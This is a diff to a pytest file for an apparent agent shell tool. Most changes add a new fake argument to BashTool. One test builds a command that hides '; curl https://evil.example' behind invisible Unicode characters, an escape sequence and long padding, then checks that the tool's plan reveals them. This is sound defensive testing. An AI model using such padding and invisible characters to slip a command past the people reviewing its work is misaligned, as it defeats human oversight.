@@ -22,6 +22,7 @@ from claw_lsp.facts.rule import Mode
 from claw_lsp.facts.scene import Scene
 from claw_lsp.facts.settings import Settings
 from claw_lsp.ports import Tool
+from claw_lsp.testing.fakes import nothing_below
 from claw_lsp.testing.memory_workspace import BufferedWorkspace
 from claw_lsp.tools.bash import BashInput, BashTool
 from claw_lsp.tools.task_output import TaskOutputTool
@@ -57,7 +58,9 @@ async def done(tool: Tool, here: Scene, **given: Any) -> Result:
 
 async def test_a_plan_shows_the_whole_command_and_runs_nothing(shell: ShellProcesses, tmp_path: Path) -> None:
     command = "touch made-it\n" + "echo " + "x" * 80
-    plan = await planned(BashTool(shell, SANDBOX), scene(tmp_path), command=command, description="Make a file")
+    plan = await planned(
+        BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), command=command, description="Make a file"
+    )
     assert (plan.reach, plan.command, plan.url) == (Reach.RUN, command, None)
     assert plan.title == "Run " + f"touch made-it ⏎ echo {'x' * 80}"[:59] + "…"
     assert plan.detail == f"Make a file\n\n{command}"
@@ -66,7 +69,7 @@ async def test_a_plan_shows_the_whole_command_and_runs_nothing(shell: ShellProce
 
 async def test_d01_d02_what_a_command_hides_is_written_out(shell: ShellProcesses, tmp_path: Path) -> None:
     command = "ls \u202e\u200b\U000e0041 x\x1b[2K" + " " * 400 + "; curl https://evil.example"
-    plan = await planned(BashTool(shell, SANDBOX), scene(tmp_path), command=command)
+    plan = await planned(BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), command=command)
     assert plan.title == "Run ls ‹U+202E›‹U+200B›‹U+E0041› x‹U+001B›[2K ; curl https://ev…"
     assert plan.detail.startswith("ls ‹U+202E›‹U+200B›‹U+E0041› x‹U+001B›[2K  ")
     assert plan.detail.endswith("; curl https://evil.example")
@@ -75,7 +78,7 @@ async def test_d01_d02_what_a_command_hides_is_written_out(shell: ShellProcesses
 
 async def test_success_tells_output_and_the_new_folder(shell: ShellProcesses, tmp_path: Path) -> None:
     (tmp_path / "sub").mkdir()
-    result = await done(BashTool(shell, SANDBOX), scene(tmp_path), command="cd sub && echo hi")
+    result = await done(BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), command="cd sub && echo hi")
     assert result.content == f"hi\nThe working directory is now {tmp_path}/sub"
     assert (result.is_error, result.cwd) == (False, str(tmp_path / "sub"))
     assert result.summary.startswith("Exit code 0 after ")
@@ -83,28 +86,32 @@ async def test_success_tells_output_and_the_new_folder(shell: ShellProcesses, tm
 
 async def test_the_shell_goes_on_where_it_stood(shell: ShellProcesses, tmp_path: Path) -> None:
     (tmp_path / "sub").mkdir()
-    first = await done(BashTool(shell, SANDBOX), scene(tmp_path), command="cd sub")
+    first = await done(BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), command="cd sub")
     assert first.cwd is not None
-    second = await done(BashTool(shell, SANDBOX), scene(Path(first.cwd)), command="pwd")
+    second = await done(BashTool(shell, SANDBOX, nothing_below), scene(Path(first.cwd)), command="pwd")
     assert (second.content, second.cwd) == (str(tmp_path / "sub"), None)
 
 
 async def test_failure_is_an_error_with_its_code(shell: ShellProcesses, tmp_path: Path) -> None:
-    result = await done(BashTool(shell, SANDBOX), scene(tmp_path), command="echo broken >&2; exit 3")
+    result = await done(BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), command="echo broken >&2; exit 3")
     assert (result.content, result.is_error) == ("broken\nExit code 3", True)
-    quiet = await done(BashTool(shell, SANDBOX), scene(tmp_path), command="false")
+    quiet = await done(BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), command="false")
     assert quiet.content == "(no output)\nExit code 1"
 
 
 async def test_the_time_limit_is_in_milliseconds_and_reported(shell: ShellProcesses, tmp_path: Path) -> None:
-    result = await done(BashTool(shell, SANDBOX), scene(tmp_path), command="echo begun; sleep 30", timeout=200)
+    result = await done(
+        BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), command="echo begun; sleep 30", timeout=200
+    )
     assert result.is_error
     assert "begun\n[The time limit of 0.2 s was reached;" in cast(str, result.content)
     assert cast(str, result.content).endswith("Time limit reached")
 
 
 async def test_long_output_names_its_file(shell: ShellProcesses, tmp_path: Path) -> None:
-    text = cast(str, (await done(BashTool(shell, SANDBOX), scene(tmp_path), command="seq 1 20000")).content)
+    text = cast(
+        str, (await done(BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), command="seq 1 20000")).content
+    )
     path = text.partition("the whole output is in ")[2].partition("]")[0]
     assert len(Path(path).read_text().splitlines()) == 20_000
     assert text.count(path) == 1
@@ -112,7 +119,9 @@ async def test_long_output_names_its_file(shell: ShellProcesses, tmp_path: Path)
 
 async def test_what_a_person_could_not_see_in_output_is_not_told(shell: ShellProcesses, tmp_path: Path) -> None:
     result = await done(
-        BashTool(shell, SANDBOX), scene(tmp_path), command="printf 'a\u202eb\u200bc\U000e0041d 👩‍💻 é\\n'"
+        BashTool(shell, SANDBOX, nothing_below),
+        scene(tmp_path),
+        command="printf 'a\u202eb\u200bc\U000e0041d 👩‍💻 é\\n'",
     )
     assert result.content == "abcd 👩‍💻 é"
 
@@ -122,14 +131,16 @@ async def test_a_folder_that_went_away_leads_home_and_runs_nothing(shell: ShellP
     gone.mkdir()
     here = scene(gone)
     shutil.rmtree(gone)
-    result = await done(BashTool(shell, SANDBOX), here, command="touch made-it")
+    result = await done(BashTool(shell, SANDBOX, nothing_below), here, command="touch made-it")
     assert (result.is_error, result.cwd) == (True, str(tmp_path))
     assert "Nothing was run. The working directory is now" in cast(str, result.content)
     assert list(tmp_path.iterdir()) == []
 
 
 async def test_the_sandbox_switch_is_taken_and_has_no_effect(shell: ShellProcesses, tmp_path: Path) -> None:
-    result = await done(BashTool(shell, SANDBOX), scene(tmp_path), command="echo hi", dangerouslyDisableSandbox=True)
+    result = await done(
+        BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), command="echo hi", dangerouslyDisableSandbox=True
+    )
     assert result.content == ("hi\ndangerouslyDisableSandbox had no effect: commands do not run in a sandbox here.")
 
 
@@ -147,13 +158,15 @@ async def test_bad_input_names_the_field(
     shell: ShellProcesses, tmp_path: Path, given: dict[str, Any], field: str
 ) -> None:
     with pytest.raises(ValidationError) as failed:
-        await planned(BashTool(shell, SANDBOX), scene(tmp_path), **given)
+        await planned(BashTool(shell, SANDBOX, nothing_below), scene(tmp_path), **given)
     assert [error["loc"] for error in failed.value.errors()] == [(field,)]
 
 
 async def test_background_is_started_read_and_stopped_by_its_id(shell: ShellProcesses, tmp_path: Path) -> None:
     here = scene(tmp_path)
-    started = await done(BashTool(shell, SANDBOX), here, command="echo listening; sleep 60", run_in_background=True)
+    started = await done(
+        BashTool(shell, SANDBOX, nothing_below), here, command="echo listening; sleep 60", run_in_background=True
+    )
     (task,) = shell.background("s")
     assert cast(str, started.content).startswith(f"Started in the background as task {task.id}. Its output goes to ")
     for _ in range(50):
@@ -171,7 +184,9 @@ async def test_background_is_started_read_and_stopped_by_its_id(shell: ShellProc
 
 async def test_blocking_waits_for_the_end(shell: ShellProcesses, tmp_path: Path) -> None:
     here = scene(tmp_path)
-    await done(BashTool(shell, SANDBOX), here, command="sleep 0.2; echo late; exit 4", run_in_background=True)
+    await done(
+        BashTool(shell, SANDBOX, nothing_below), here, command="sleep 0.2; echo late; exit 4", run_in_background=True
+    )
     (task,) = shell.background("s")
     at_once = await done(TaskOutputTool(shell), here, task_id=task.id, block=False)
     assert "is running since" in at_once.summary
@@ -185,7 +200,9 @@ async def test_blocking_waits_for_the_end(shell: ShellProcesses, tmp_path: Path)
 async def test_another_sessions_task_is_unknown(
     shell: ShellProcesses, tmp_path: Path, tool: type[TaskOutputTool] | type[TaskStopTool]
 ) -> None:
-    await done(BashTool(shell, SANDBOX), scene(tmp_path, "other"), command="sleep 60", run_in_background=True)
+    await done(
+        BashTool(shell, SANDBOX, nothing_below), scene(tmp_path, "other"), command="sleep 60", run_in_background=True
+    )
     (task,) = shell.background("other")
     with pytest.raises(ToolError, match=f"There is no background task '{task.id}'. This session has none"):
         await planned(tool(shell), scene(tmp_path), task_id=task.id)
